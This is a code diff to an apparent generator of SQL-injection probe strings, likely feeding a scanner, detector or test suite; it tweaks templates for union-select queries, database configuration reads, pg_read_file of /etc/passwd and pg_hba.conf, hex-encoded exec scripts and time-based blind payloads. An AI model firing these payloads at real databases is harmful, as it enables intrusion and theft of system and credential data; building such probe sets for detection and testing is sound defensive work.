@@ -217,7 +217,7 @@ export const probeTemplates = family('sql-injection/probe', {
     text`${maybe(' ')}${words('order group')} by ${integer(1, 60)}${maybe(text`${oneOf(',', ' ')}${oneOf(integer(1, 9), 'asc', 'desc')}`, 0.3)}${maybe(' ')}${maybe(comment, 0.5)}`
   ),
   'bare-settings': sql(
-    text`${maybe(baseValue)}${maybe(oneOf("'", ';', ' union '))}select ${oneOf(text`current_setting('${words('port hba_file config_file data_directory log_statement password_encryption')}')`, text`${serverFact}`, text`versionnumber, version_timestamp from sysibm.sysversions`, text`${serverFact} from dual`, text`distinct(column_name) from all_tab_columns`, text`name from v$database`, text`pg_read_file('${words('postgresql.conf pg_hba.conf /etc/passwd')}')`)}${maybe(';')}${maybe(comment)}`
+    text`${maybe(baseValue)}${maybe(oneOf("'", ';', ' union '))}select ${oneOf(text`current_setting('${words('port hba_file config_file data_directory log_statement password_encryption')}')`, text`${serverFact}`, text`${column} from ${words('sysibm.sysversions sysibm.sysdummy1 sysibmadm.env_inst_info syscat.dbauth')}`, text`${serverFact} from dual`, text`distinct(column_name) from all_tab_columns`, text`name from v$database`, text`pg_read_file('${words('postgresql.conf pg_hba.conf /etc/passwd')}')`)}${maybe(';')}${maybe(comment)}`
   ),
   'declared-script': sql(
     text`${maybe(oneOf(';', "';", '1;'))}declare @${alias} ${words('varchar nvarchar char')}${maybe(' ')}(${words('4000 8000 255')}) ${words('select set')} @${alias}${maybe(' ')}=${maybe(' ')}${oneOf(text`0x${hex(12, 60)}`, quoteless, '')}${maybe(text`${oneOf(' ', ';')}exec${maybe(' ')}(@${alias})`)}`
@@ -232,9 +232,9 @@ export const probeTemplates = family('sql-injection/probe', {
     injected(
       oneOf(
         'sleep(__time__)',
-        'benchmark(10000000,md5(1))',
+        text`benchmark(${digits(8)},md5(${integer(1, 9)}))`,
         'pg_sleep(__time__)',
-        "waitfor delay '0:0:__time__'",
+        "waitfor delay '__time__'",
         text`or sleep(__time__)='`,
         text`sleep(${oneOf('@@time', '[delay]', '{time}')})`
       )
